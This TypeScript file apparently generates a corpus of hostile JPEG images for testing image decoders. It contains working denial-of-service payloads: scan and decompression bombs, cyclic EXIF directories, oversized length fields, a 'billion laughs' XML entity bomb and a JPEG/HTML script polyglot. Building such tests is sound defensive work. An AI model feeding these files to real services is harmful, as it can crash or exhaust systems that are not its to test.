import { join, latin1, mutate, nest, repeat, u16, u16le, u32, u32le, u8 } from './bytes.ts';
import { type Target, filesOf, type HostileFile } from './file.ts';
import { EOI, exif, frame, greyJpeg, huffman, many, scanBomb, scanHead, segment, smallJpeg, SOI } from './jpeg.ts';

/** A directory of EXIF: entries of tag, type, count, value, and where the next one is. */
const directory = (entries: Buffer[], next = 0): Buffer => join(u16le(entries.length), entries, u32le(next));
const entry = (tag: number, type: number, count: number, value: number): Buffer =>
  join(u16le(tag, type), u32le(count, value));

const ORIENTATION = 0x112;
const GPS = 0x8825;
const THUMBNAIL = [entry(0x201, 4, 1, 0), entry(0x202, 4, 1, 0xffffffff)];

/** Pictures that are harmful wherever a JPEG is taken. */
export function jpegFiles(target: Target): HostileFile[] {
  const jpeg = filesOf(target === 'screenshot' ? 'screenshot' : 'jpeg', target, '.jpg');
  return [
    jpeg('of 883 scans', 'a decoder that walks the picture 883 times', () => scanBomb()),
    jpeg('of 883 small scans', 'a limit of scans', () => scanBomb(800)),
    jpeg('of 20,000 empty scans', 'a decoder that walks the picture per scan', () => {
      const head = [SOI, segment(0xdb, Buffer.alloc(65, 1)), frame(2, 4000, 4000), huffman(0, [0]), huffman(1, [0])];
      return join(head, repeat(20_000, scanHead({ from: 1, to: 63, high: 0, low: 0 })), EOI);
    }),
    jpeg('of 65,535 × 65,535', 'memory by the header', () => greyJpeg(65_535, 65_535, [], false)),
    jpeg('of 65,535 × 1', 'a line', () => greyJpeg(65_535, 1)),
    jpeg('of 40 megapixels of grey', 'memory by the header', () => greyJpeg(6320, 6320)),
    jpeg('without height', 'a height that comes later', () => greyJpeg(100, 0, [], false)),
    jpeg('of 100,000 comments', 'a loop over segments', () => smallJpeg(many(100_000, 0xfe, Buffer.alloc(0)))),
    jpeg('of 50,000 restart intervals', 'a loop over segments', () => smallJpeg(many(50_000, 0xdd, u16(1)))),
    jpeg('that restarts at every block', 'a decoder that starts anew', () => {
      const scan = join(
        u8(0x3f),
        repeat(4095, (index) => u8(0xff, 0xd0 + (index % 8), 0x3f)),
      );
      const tables = [segment(0xdb, Buffer.alloc(65, 1)), segment(0xdd, u16(1)), frame(0, 512, 512)];
      const codes = [huffman(0, [0]), huffman(1, [0]), segment(0xda, u8(1, 1, 0, 0, 63, 0))];
      return join(SOI, tables, codes, scan, EOI);
    }),
    jpeg('of 900 kB of fill bytes', 'a search for the next marker', () => join(SOI, Buffer.alloc(900_000, 0xff), EOI)),
    jpeg('whose segments have no length', 'an endless loop', () => smallJpeg(segment(0xe2, Buffer.alloc(0), 0))),
    jpeg('of 255 components', 'memory per component', () => {
      const components = Array.from({ length: 255 }, (_, id) => ({ id, sampling: 0x44 }));
      return join(SOI, frame(0, 4000, 4000, components), EOI);
    }),
    jpeg('sampled 15 times', 'memory by the sampling', () =>
      join(SOI, frame(0, 65_000, 65_000, [{ id: 1, sampling: 0xff }]), EOI),
    ),
    jpeg('of 16 bits', 'a decoder that is rarely used', () => join(SOI, frame(1, 6000, 6000, [{ id: 1 }], 16), EOI)),
    jpeg('in arithmetic coding', 'a decoder that is rarely used', () => join(SOI, frame(9, 6000, 6000), EOI)),
    jpeg('that is lossless', 'a decoder that is rarely used', () => join(SOI, frame(3, 6000, 6000), EOI)),
    jpeg('of hierarchies', 'a decoder that is rarely used', () => join(SOI, repeat(1000, frame(5, 6000, 6000)), EOI)),
    jpeg('whose code has too many symbols', 'a table by the header', () =>
      smallJpeg(segment(0xc4, join(u8(0), Buffer.alloc(16, 0xff), Buffer.alloc(4080)))),
    ),
    jpeg('quantized by nothing', 'a division by the table', () => smallJpeg(segment(0xdb, Buffer.alloc(65)))),
    jpeg('turned by 65,535', 'a rotation by EXIF', () =>
      smallJpeg(exif(directory([entry(ORIENTATION, 3, 1, 65_535)]))),
    ),
    jpeg('whose directories form a circle', 'an endless loop', () => smallJpeg(exif(directory([], 8)))),
    jpeg('whose GPS directory is itself', 'recursion', () => smallJpeg(exif(directory([entry(GPS, 4, 1, 8)])))),
    jpeg('of 65,535 entries that are not there', 'a table that is trusted', () => smallJpeg(exif(u16le(65_535)))),
    jpeg('of an entry of 4 GiB', 'a buffer by the header', () =>
      smallJpeg(exif(directory([entry(0x10e, 2, 0xffffffff, 8)]))),
    ),
    jpeg('of a thumbnail of 4 GiB', 'a buffer by the header', () => smallJpeg(exif(directory(THUMBNAIL, 0)))),
    jpeg('of 255 pieces of a profile', 'a colour profile', () =>
      smallJpeg(
        repeat(255, (index) => segment(0xe2, join(latin1('ICC_PROFILE\0'), u8(index, 255), Buffer.alloc(3000, index)))),
      ),
    ),
    jpeg('of a profile that says 4 GiB', 'a colour profile', () =>
      smallJpeg(
        segment(0xe2, join(latin1('ICC_PROFILE\0'), u8(1, 1), u32(0xffffffff), Buffer.alloc(128), u32(0xffffffff))),
      ),
    ),
    jpeg('of XMP with a billion laughs', 'a parser of XML', () =>
      smallJpeg(segment(0xe1, join(latin1('http://ns.adobe.com/xap/1.0/\0'), latin1(LAUGHS)))),
    ),
    jpeg('of 100 thumbnails in each other', 'recursion', () =>
      nest(100, (inner) => smallJpeg(segment(0xe1, join(latin1('Exif\0\0'), inner.subarray(0, 60_000)))), smallJpeg()),
    ),
    jpeg('and a page', 'a browser that looks at the bytes', () =>
      join(smallJpeg(), latin1('<html><script>alert(1)</script></html>')),
    ),
    jpeg('that is only its beginning', 'a read out of range', () => join(SOI, u8(0xff))),
    jpeg('without an end', 'a read out of range', () => scanBomb(800, 20).subarray(0, -2)),
    ...Array.from({ length: 10 }, (_, index) =>
      jpeg(`with noise, ${index + 1}`, 'whatever breaks', () => mutate(scanBomb(160, 100), index + 1)),
    ),
  ];
}

/** Entities that name each other: a billion characters from a kilobyte. */
export const LAUGHS = [
  '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">',
  ...Array.from({ length: 10 }, (_, index) => {
    const inner = index === 0 ? '&lol;' : `&lol${index - 1};`;
    return `<!ENTITY lol${index} "${inner.repeat(10)}">`;
  }),
  ']>',
].join('');
